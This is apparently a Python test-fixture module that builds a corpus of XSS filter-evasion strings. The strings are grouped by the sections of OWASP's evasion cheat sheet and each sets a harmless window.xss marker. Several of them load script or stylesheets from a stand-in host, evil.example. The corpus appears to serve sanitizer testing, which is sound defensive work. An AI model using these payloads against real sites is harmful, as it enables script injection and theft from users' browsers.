"""Strings that try to become script, by the families of the public lists.

The families are the sections of OWASP's XSS Filter Evasion Cheat Sheet
(cheatsheetseries.owasp.org, github.com/OWASP/CheatSheetSeries), which goes back to RSnake's list;
the strings are made here, and each would set ``window.xss``.
"""

import json
from pathlib import Path

SCRIPT = "window.xss=1"
EVENTS = (
    *("abort", "activate", "afterprint", "animationend", "animationiteration", "animationstart"),
    *("auxclick", "beforecopy", "beforecut", "beforeinput", "beforepaste", "beforeprint"),
    *("beforetoggle", "beforeunload", "begin", "blur", "bounce", "canplay", "change", "click"),
    *("contentvisibilityautostatechange", "contextmenu", "copy", "cuechange", "cut", "dblclick"),
    *("drag", "dragend", "dragenter", "dragover", "dragstart", "drop", "durationchange", "end"),
    *("ended", "error", "finish", "focus", "focusin", "focusout", "formdata", "fullscreenchange"),
    *("hashchange", "input", "invalid", "keydown", "keypress", "keyup", "load", "loadeddata"),
    *("loadstart", "message", "mousedown", "mouseenter", "mousemove", "mouseout", "mouseover"),
    *("mousewheel", "pagehide", "pageshow", "paste", "play", "playing", "pointerdown"),
    *("pointerrawupdate", "popstate", "progress", "repeat", "reset", "resize", "scroll"),
    *("scrollend", "search", "seeked", "select", "selectstart", "show", "start", "storage"),
    *("submit", "toggle", "touchstart", "transitionend", "transitionrun", "unload", "wheel"),
)
HREF = f"javascript:{SCRIPT}"


def _references(written: str) -> str:
    return "".join(written.format(ord(letter)) for letter in HREF)


def _families() -> dict[str, list[str]]:
    image = '<img src="{}">'
    return {
        "event handlers": [f"<b on{event}={SCRIPT} tabindex=1>x</b>" for event in EVENTS],
        "malformed tags": [
            f"<a onmouseover={SCRIPT}>no address",
            f'<img """><script>{SCRIPT}</script>">',
            f"<img src=# onmouseover='{SCRIPT}'>",
            f"<img src= onmouseover='{SCRIPT}'>",
            f"<img onmouseover='{SCRIPT}'>",
            f"<<script>{SCRIPT}//<</script>",
            "<script src=//evil.example/x.js?<b>",
            "<script src=//evil.example/.j>",
            f'<img src="`<{HREF}>`"',
            "<iframe src=//evil.example/x.html <",
            f"<script/xss src='data:,{SCRIPT}'></script>",
            f"<body onload!#$%&()*~+-_.,:;?@[/|\\]^`={SCRIPT}>",
        ],
        "character references": [
            image.format(_references("&#{};")),
            image.format(_references("&#{:07}")),
            image.format(_references("&#x{:x}")),
            image.format(_references("&#X{:X};")),
            f"<a href='{_references('&#{};')}'>press</a>",
            f"<iframe srcdoc='&lt;script&gt;{SCRIPT}&lt;/script&gt;'>",
        ],
        "broken protocols": [
            *(
                image.format(f"jav{mark}ascript:{SCRIPT}")
                for mark in ("&#x09;", "&#x0A;", "&#x0D;")
            ),
            *(image.format(f" {mark} {HREF}") for mark in ("&#14;", "&#32;", "&nbsp;")),
            image.format(HREF.upper()),
            f"<a href='java\tscript:{SCRIPT}'>press</a>",
            f"<a href='feed:{HREF}'>press</a>",
            f"<a href='view-source:{HREF}'>press</a>",
            "<img src='vbscript:msgbox(1)'>",
            "<img src='livescript:1'>",
        ],
        "old attributes": [
            f"<input type=image src='{HREF}'>",
            f"<body background='{HREF}'>",
            f"<img dynsrc='{HREF}'>",
            f"<img lowsrc='{HREF}'>",
            f"<bgsound src='{HREF}'>",
            f"<table background='{HREF}'><td background='{HREF}'>",
            f"<layer src='{HREF}'></layer>",
            f"<isindex action='{HREF}' type=image>",
            f"<br size=&{{{SCRIPT}}}>",
        ],
        "styles": [
            f"<style>li{{list-style-image:url('{HREF}')}}</style><ul><li>x",
            f"<link rel=stylesheet href='{HREF}'>",
            "<style>@import'//evil.example/x.css';</style>",
            "<meta http-equiv=Link content='<//evil.example/x.css>; rel=stylesheet'>",
            "<style>body{-moz-binding:url(//evil.example/x.xml)}</style>",
            f"<img style='xss:expr/*x*/ession({SCRIPT})'>",
            f"<xss style='behavior:url(x.htc)' onfocus={SCRIPT}>",
            f"<style type=text/javascript>{SCRIPT}</style>",
        ],
        "embedded things": [
            f"<frameset><frame src='{HREF}'></frameset>",
            f"<object type=text/x-scriptlet data='data:text/html,<script>{SCRIPT}</script>'>",
            f"<embed src='data:image/svg+xml,<svg onload={SCRIPT}>'>",
            f"<object><param name=url value='{HREF}'></object>",
            "<base href='javascript:/a/-window.xss=1//'>",
            f"<xml id=x><i><b>&lt;img src=x onerror={SCRIPT}&gt;</b></i></xml>",
            f"<html xmlns:xss><?import namespace=xss implementation=x><xss:xss>{SCRIPT}</xss:xss>",
            f"<!--[if gte IE 4]><script>{SCRIPT}</script><![endif]-->",
            f"<? echo('<scr');echo('ipt>{SCRIPT}</script>'); ?>",
            f"<meta http-equiv=Set-Cookie content='a=<script>{SCRIPT}</script>'>",
        ],
        "breaking out": [
            f'\\";{SCRIPT};//',
            f"</title><svg onload={SCRIPT}>",
            f"</style><svg onload={SCRIPT}>",
            f"</option></select><img src=x onerror={SCRIPT}>",
            f"</xmp><img src=x onerror={SCRIPT}>",
            f"</noembed><img src=x onerror={SCRIPT}>",
            "Set.constructor`window.xss\\x3d1```",
            "<script>window['x'+'ss']=1</script>",
            "<script a='>' src=//evil.example/x.js></script>",
            "<script>document.write('<scri');</script>pt src=//evil.example/x.js></script>",
        ],
        "addresses in other words": [
            f"<a href=http://{host}/>press</a>"
            for host in (
                "2130706433",
                "0x7f000001",
                "0177.0.0.1",
                "%65vil.example",
                "evil.example.",
            )
        ],
    }


FAMILIES = _families()
KEPT: list[str] = json.loads(
    (Path(__file__).parents[1] / "webui" / "xss.json").read_text(encoding="utf-8")
)
"""The strings that the page's own tests use too."""
ATTACKS = list(dict.fromkeys([*KEPT, *(text for family in FAMILIES.values() for text in family)]))
